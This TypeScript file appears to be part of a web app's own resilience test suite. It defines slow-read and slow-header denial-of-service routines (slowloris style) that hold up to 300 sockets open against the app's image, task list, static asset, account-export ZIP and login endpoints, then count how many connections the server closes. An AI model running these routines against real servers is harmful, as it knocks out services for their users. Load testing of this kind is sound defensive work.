import { existsSync, readdirSync, statSync } from 'node:fs';
import { connect, type Socket } from 'node:net';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { builtFrontend } from '../../../../src/http/staticFiles.ts';
import { ATTACKER_ADDRESS, type Attack, Statuses, send, type Target } from '../target.ts';
import { uploadSmallFlyers } from './ownAccount.ts';

/**
 * Opens connections that send `text` and never read. Returns how many the server closed. A connection that does not read
 * notices that only when it writes, so `drip` is sent every second.
 */
async function holdConnections({ baseUrl, seconds }: Target, count: number, text: string, drip = ''): Promise<number> {
  const { hostname, port } = new URL(baseUrl);
  let closed = 0;
  const sockets: Socket[] = [];
  for (let n = 0; n < count; n++) {
    const socket = connect({ host: hostname, port: Number(port), localAddress: ATTACKER_ADDRESS });
    socket.pause();
    socket.on('error', () => undefined);
    socket.once('close', () => {
      closed += 1;
    });
    socket.write(text);
    sockets.push(socket);
  }
  for (let second = 0; second < seconds; second++) {
    await sleep(1_000);
    if (drip) for (const socket of sockets) if (!socket.destroyed) socket.write(drip);
  }
  const byServer = closed;
  for (const socket of sockets) socket.destroy();
  return byServer;
}

const requestOf = ({ baseUrl, headers }: Target, path: string) =>
  `GET ${path} HTTP/1.1\r\nHost: ${new URL(baseUrl).host}\r\n${Object.entries(headers)
    .map(([name, value]) => `${name}: ${value}\r\n`)
    .join('')}\r\n`;

/** Requests a large image on many connections and reads none of it. */
export const unreadImages: Attack = async (target) => {
  const closed = await holdConnections(target, 150, requestOf(target, `/api/get_image/${target.fileId}`));
  return `150 connections that ask for an image and do not read: ${closed} closed`;
};

/** Requests a long list on many connections and reads none of it. */
export const unreadLists: Attack = async (target) => {
  const uploads = await uploadSmallFlyers(target);
  const closed = await holdConnections(target, 45, requestOf(target, '/api/tasks'));
  return `6 uploads of 20 flyers: ${uploads}; 45 connections that ask for all tasks and do not read: ${closed} closed`;
};

/** Requests the largest file of the web app on many connections and reads none of it. */
export const unreadFileThroughProxy: Attack = async (target) => {
  const folder = join(builtFrontend(), 'assets');
  const files = existsSync(folder) ? readdirSync(folder) : [];
  const sizeOf = (file: string) => statSync(join(folder, file)).size;
  const [largest] = files.sort((a, b) => sizeOf(b) - sizeOf(a));
  const file = largest ? `/assets/${largest}` : '/api/openapi.json';
  const closed = await holdConnections(target, 150, requestOf(target, file));
  return `150 connections through nginx that ask for ${file} and do not read: ${closed} closed`;
};

/** Opens ZIPs of the account's data on many connections, each with a ticket of its own, and reads none of it. */
export const slowZips: Attack = async (target) => {
  const opened = new Statuses();
  const closed: Promise<number>[] = [];
  for (let n = 0; n < 12; n++) {
    const ticket = await send(target, '/api/account/export/ticket', { headers: target.headers });
    opened.add(ticket);
    const { download_url: url = '/' } = JSON.parse(ticket.text) as { download_url?: string };
    closed.push(holdConnections(target, 1, requestOf(target, url)));
  }
  const byServer = (await Promise.all(closed)).reduce((sum, count) => sum + count, 0);
  const next = await send(target, '/api/account/export/ticket', { headers: target.headers });
  const { download_url: url = '/' } = JSON.parse(next.text) as { download_url?: string };
  const { status } = await send(target, url, { method: 'GET' });
  return `12 ZIPs that are not read: tickets ${opened}; ${byServer} closed, the next one ${status}`;
};

/** Sends one header per second and never completes the request. */
export const slowHeaders: Attack = async (target) => {
  const start = `POST /api/auth/telegram HTTP/1.1\r\nHost: ${new URL(target.baseUrl).host}\r\n`;
  const closed = await holdConnections(target, 300, start, 'X-A: b\r\n');
  return `300 connections that send a header a second: ${closed} closed`;
};
